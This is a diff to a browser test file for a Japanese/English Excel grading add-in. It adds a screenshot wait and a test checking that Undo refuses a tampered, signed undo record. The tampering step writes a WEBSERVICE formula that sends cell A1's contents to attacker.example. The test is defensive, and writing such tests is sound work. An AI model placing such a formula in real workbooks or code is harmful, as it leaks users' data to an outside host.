@@ -22,6 +22,7 @@ import { checkSubmission } from '../../src/adapters/xlsx/submission';
 import { reviewTestSubmissions } from '../../src/samples/submissions';
 import { demoWorkbookSpecs } from '../../src/samples/demoWorkbook';
 import { encodeShiftJis } from '../helpers/shiftJis';
+import { messages } from '../../src/taskpane/i18n';
 
 jest.setTimeout(240_000);
 
@@ -353,6 +354,8 @@ test('次の期間へ asks first in a dialog with the counts (cancel changes not
   expect(await dialog.textContent()).toContain(`${expected.changes.length} 個のセルを書き換えます`);
   expect(await dialog.textContent()).toContain(`${expected.from.label} から ${expected.to.label}`);
   expect(await fakeValue(page, probe.sheet, probe.cell)).toBe(probe.before);
+  // The dialog fades in: the picture is taken once its animations have ended.
+  await page.waitForFunction(() => document.getAnimations().every((a) => a.playState !== 'running'));
   await page.screenshot({ path: path.join(SHOTS, 'roll-confirm.png'), fullPage: true });
   await dialog.getByRole('button', { name: 'キャンセル' }).click();
   await page.getByTestId('roll-cancelled').waitFor();
@@ -390,5 +393,48 @@ test('English when Office is in English', async () => {
   await page.getByRole('button', { name: 'Check workbook' }).click();
   await page.getByTestId('period').waitFor();
   await page.close();
+  expect(blocked).toEqual([]);
+});
+
+test('Undo refuses a record edited in the workbook (Web Crypto and localStorage of the real browser), in Japanese and English', async () => {
+  for (const lang of ['ja-JP', 'en-US']) {
+    const page = await openPane(lang);
+    const ja = lang === 'ja-JP';
+    await page.getByRole('tab', { name: ja ? '評価を記入' : 'Grade' }).click();
+    const t = messages(ja ? 'ja' : 'en');
+    await page.getByRole('checkbox', { name: t.overwrite }).check();
+    await page.getByRole('button', { name: t.grade }).click();
+    await page.getByTestId('grade-confirm').getByRole('button', { name: t.gradeConfirm }).click();
+    await page.getByTestId('changes').waitFor();
+    type Fake = { sheet: (n: string) => { cells: Map<string, { value: unknown }> } | undefined; settings: Map<string, unknown> };
+    // The key is in this browser's storage under the workbook's id, which is in the workbook's settings; the record is signed.
+    const signed = await page.evaluate(() => {
+      const fake = (window as unknown as { __fake: Fake }).__fake;
+      const id = String(fake.settings.get('EvalSheet.workbookId'));
+      const record = JSON.parse(String(fake.sheet('_EvalSheet取消記録')!.cells.get('A1')!.value));
+      return { id, key: localStorage.getItem(`EvalSheet.undoKey.${id}`), recordId: record.workbookId, sig: record.sig };
+    });
+    expect(signed.key).toMatch(/^[0-9a-f]{64}$/);
+    expect(signed.recordId).toBe(signed.id);
+    expect(signed.sig).toMatch(/^[0-9a-f]{64}$/);
+    // Someone edits the record: the first cell's previous content becomes a WEBSERVICE formula.
+    const before = await page.evaluate(() => {
+      const fake = (window as unknown as { __fake: Fake }).__fake;
+      const cell = fake.sheet('_EvalSheet取消記録')!.cells.get('A1')!;
+      const record = JSON.parse(String(cell.value));
+      record.cells[0].formula = '=WEBSERVICE("http://attacker.example/?d="&A1)';
+      cell.value = JSON.stringify(record);
+      return { sheet: record.cells[0].sheet, cell: record.cells[0].cell, value: fake.sheet(record.cells[0].sheet)!.cells.get(record.cells[0].cell)!.value };
+    });
+    await page.getByRole('tab', { name: ja ? '元に戻す' : 'Undo' }).click();
+    const refused = page.getByTestId('undo-refused');
+    await refused.waitFor();
+    expect(await refused.textContent()).toMatch(ja ? /信頼できないため、元に戻しません：記録の署名が一致しません.*何も変更していません/ : /cannot be trusted \(its signature does not match.*Nothing in the workbook was changed/);
+    expect(await page.getByRole('button', { name: t.undo }).isDisabled()).toBe(true);
+    expect(await fakeValue(page, before.sheet, before.cell)).toBe(before.value);
+    expect(await page.evaluate(() => !!(window as unknown as { __fake: Fake }).__fake.sheet('評価サマリー'))).toBe(true);
+    if (ja) await page.screenshot({ path: path.join(SHOTS, 'undo-refused.png'), fullPage: true });
+    await page.close();
+  }
   expect(blocked).toEqual([]);
 });
